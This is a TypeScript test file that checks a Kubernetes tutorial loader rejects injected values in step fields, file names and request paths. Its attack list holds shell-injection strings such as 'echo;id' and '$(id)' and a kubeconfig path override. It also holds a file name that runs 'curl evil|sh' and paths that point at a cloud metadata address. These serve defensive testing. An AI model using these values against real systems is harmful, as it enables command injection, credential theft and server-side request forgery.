import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { visible } from '@studylog/check/text';
import { expect, onTestFinished, test } from 'vitest';
import { DiagnosticsError, formatDiagnostic } from '../../src/example/diagnostic.ts';
import { loadExample } from '../../src/example/load.ts';

const MANIFEST = 'apiVersion: v1\nkind: Pod\nmetadata:\n  name: echo\n';
const HEAD = 'title: {ko: 파드, en: Pod}\nsummary: {ko: 파드, en: Pod}\nsteps:\n';

/** What loading an example with one step finds; a step is line 4. */
function found(step: string, files: Readonly<Record<string, string>> = {}): string[] {
  const root = mkdtempSync(join(tmpdir(), 'studylog-hostile-'));
  onTestFinished(() => rmSync(root, { recursive: true }));
  const folder = join(root, 'examples/pod/echo');
  mkdirSync(folder, { recursive: true });
  const all = { 'manifest.yaml': MANIFEST, 'example.yaml': `${HEAD}  - ${step}\n`, ...files };
  for (const [name, text] of Object.entries(all)) writeFileSync(join(folder, name), text);
  try {
    loadExample(root, 'pod/echo');
    return [];
  } catch (error) {
    if (!(error instanceof DiagnosticsError)) throw error;
    return error.diagnostics.map((diagnostic) => formatDiagnostic(diagnostic, 'en'));
  }
}

/** Steps that say what `$` says, in a field that becomes a word of a command or the path of a request. */
const FIELDS: Readonly<Record<string, string>> = {
  'delete by kind': 'delete: {kind: $, name: echo}',
  'delete by name': 'delete: {kind: Pod, name: $}',
  'delete by label key': 'delete: {kind: Pod, labels: {$: echo}}',
  'delete by label value': 'delete: {kind: Pod, labels: {app: $}}',
  'what becomes of what is owned': 'delete: {kind: ReplicaSet, name: echo, cascade: $}',
  'API version': 'delete: {apiVersion: $, kind: Pod, name: echo}',
  'scale kind': 'scale: {kind: $, name: echo, replicas: 1}',
  'scale name': 'scale: {kind: Deployment, name: $, replicas: 1}',
  replicas: 'scale: {kind: Deployment, name: echo, replicas: $}',
  'label key that is set': 'label: {kind: Pod, name: echo, set: {$: x}}',
  'label value that is set': 'label: {kind: Pod, name: echo, set: {app: $}}',
  'label kind': 'label: {kind: $, name: echo, set: {app: x}}',
  container: 'setImage: {kind: Pod, name: echo, container: $, image: redis}',
  image: 'setImage: {kind: Pod, name: echo, container: app, image: $}',
  'rollout name': 'rollout: {action: undo, kind: Deployment, name: $}',
  'rollout action': 'rollout: {action: $, kind: Deployment, name: echo}',
  revision: 'rollout: {action: undo, kind: Deployment, name: echo, toRevision: $}',
  'file that is applied': 'apply: $',
  'Pod whose log is read': 'logs: {name: $, text: x}',
  'container whose log is read': 'logs: {name: echo, container: $, text: x}',
  'Pod whose restarts count': 'restarts: {name: $, count: 0}',
  'kind of an event': 'events: {kind: $, reason: Killing}',
  'name of an event': 'events: {kind: Pod, name: $, reason: Killing}',
  'reason of an event': 'events: {kind: Pod, reason: $}',
  Service: 'http: {service: $}',
  'port of a Service': 'http: {service: echo, port: $}',
  'path of a request': 'http: {service: echo, path: $}',
  'kind that is expected': 'expect: {kind: $}',
  'Service under load': 'meanwhile: {service: $, failed: 0}\n    do: [{run: kubectl get pod}]',
  'line of a watch': 'watch: $\n    output: x\n    do: [{run: kubectl get pod}]',
  'Pod that runs words': 'run: $',
  screenshot: 'page: {service: echo, screenshot: $}',
};

/** Words that kubectl, a shell or a URL reads as something else than a name. */
const ATTACKS = [
  '--kubeconfig=/root/.kube/config',
  '--namespace=payments',
  '-n',
  '-A',
  '-',
  '--',
  'namespace/payments',
  'pod,namespace',
  'echo;id',
  'echo$(id)',
  'echo`id`',
  'echo id',
  "echo'id",
  'echo\\nid',
  'echo\\u202e',
  '../../secret',
  'https://example.com/x.yaml',
  '',
];

/** What Kubernetes' own grammar takes in a field, and what is one word there. */
const ALLOWED: Readonly<Record<string, readonly string[]>> = {
  '': ['delete by label value', 'label value'],
  'namespace/payments': ['delete by label key', 'label key', 'image'],
};

test.each(Object.entries(FIELDS))('the %s is no place for another word', (name, step) => {
  for (const attack of ATTACKS) {
    const [first, ...others] = found(step.replace('$', JSON.stringify(attack).replaceAll('\\\\', '\\')));
    if (ALLOWED[attack]?.some((field) => name.startsWith(field))) continue;
    expect(first, `${step} with ${attack}`).toMatch(/^examples\/pod\/echo\/example\.yaml:[4-5]:\d+: /);
    expect(others.length, `${step} with ${attack}`).toBeLessThan(3);
  }
});

test.each([
  ['delete: {kind: Pod, name: echo.v1}'],
  ['delete: {kind: Pod, labels: {app.kubernetes.io/name: echo_1, tier: ""}}'],
  ['label: {kind: Pod, name: echo, set: {example.com/app: V1.0, tier: null}}'],
  ['setImage: {kind: Deployment, name: echo, container: app, image: "ghcr.io:443/subicura/echo:v1"}'],
  ['rollout: {action: undo, kind: Deployment, name: echo, toRevision: 2}'],
  ['rollout: {action: pause, kind: Deployment, name: echo}'],
  ['delete: {kind: ReplicaSet, name: echo, cascade: orphan}'],
  ['apply: manifest.yaml'],
  ['http: {service: echo, port: http, path: "/a/b?c=d&e=%EC%98%88#"}'.replace('#', '')],
  ['events: {kind: Pod, reason: BackOff}'],
])('%s is as well as ever', (step) => {
  expect(found(step)).toEqual([]);
});

test.each(['Namespace', 'Node', 'PersistentVolume', 'ClusterRole', 'CustomResourceDefinition', 'pod'])(
  'no step looks at or changes a %s: it is not in the namespace of the example',
  (kind) => {
    expect(found(`delete: {kind: ${kind}, name: x}`)[0]).toContain('a namespaced Kubernetes kind');
    expect(found(`expect: {kind: ${kind}}`)[0]).toContain('a namespaced Kubernetes kind');
  },
);

test.each([
  'x.yaml; curl evil|sh #.yaml',
  'a\nb.yaml',
  '-f.yaml',
  '--raw.yaml',
  'a b.yaml',
  'A.yaml',
  '.hidden.yaml',
  'run.sh',
  '가.yaml',
])('a file named %j is no file of an example', (name) => {
  const [first] = found('apply: manifest.yaml', { [name]: MANIFEST });
  expect(first).toContain(`examples/pod/echo/${visible(name)}:1:1: `);
  expect(first).toContain('is not a valid name for a file of an example');
  expect(first).toContain('such as v2.yaml');
  expect(first).not.toMatch(/a\nb/);
});

test.each([
  ['title', 'title: {ko: "파\u200b드", en: Pod}\nsummary: {ko: 파드, en: Pod}\nsteps: [{apply: manifest.yaml}]\n'],
  ['sentence', `${HEAD}  - apply: manifest.yaml\n    say: {ko: 적용, en: "\u202eylppA"}\n`],
  ['command', `${HEAD}  - run: kubectl get pod -l app=e\u200bcho\n`],
  ['command by an escape', `${HEAD}  - run: "kubectl get pod -l app=e\\u200bcho"\n`],
  ['key', `${HEAD}  - expect: {kind: Pod, metadata: {"na\\u200bme": x}}\n`],
  ['pattern that moves the cursor', `${HEAD}  - run: kubectl get pod\n    output: "\\e[2J"\n`],
])('an invisible character in a %s is reported', (_place, text) => {
  expect(found('', { 'example.yaml': text }).join('\n')).toMatch(/U\+(20(0B|2E)|001B)/);
});

test.each(['//evil.example/', '//169.254.169.254/latest/meta-data/', '//[::1]:6443/', '//'])(
  'the path %s, which is another host, is refused',
  (path) => {
    for (const step of ['page', 'http']) {
      const [fault] = found(`${step}: {service: echo, path: '${path}'}`);
      expect(fault).toContain('expected a path that starts with one `/`');
    }
  },
);

test.each(['button >> xpath=//*', 'button[name="a"]', 'css=*'])(
  'the role %j, which selects something else, is refused',
  (role) => {
    const [fault] = found(`page: {service: echo, role: {role: '${role}'}}`);
    expect(fault).toContain('expected an ARIA role');
  },
);

test('a line break in quotes of a command is reported', () => {
  const [fault] = found(`run: "kubectl get pod -o 'jsonpath={.a}\\n{.b}'"`);
  expect(fault).toContain('quotes in a command cannot contain a line break');
});
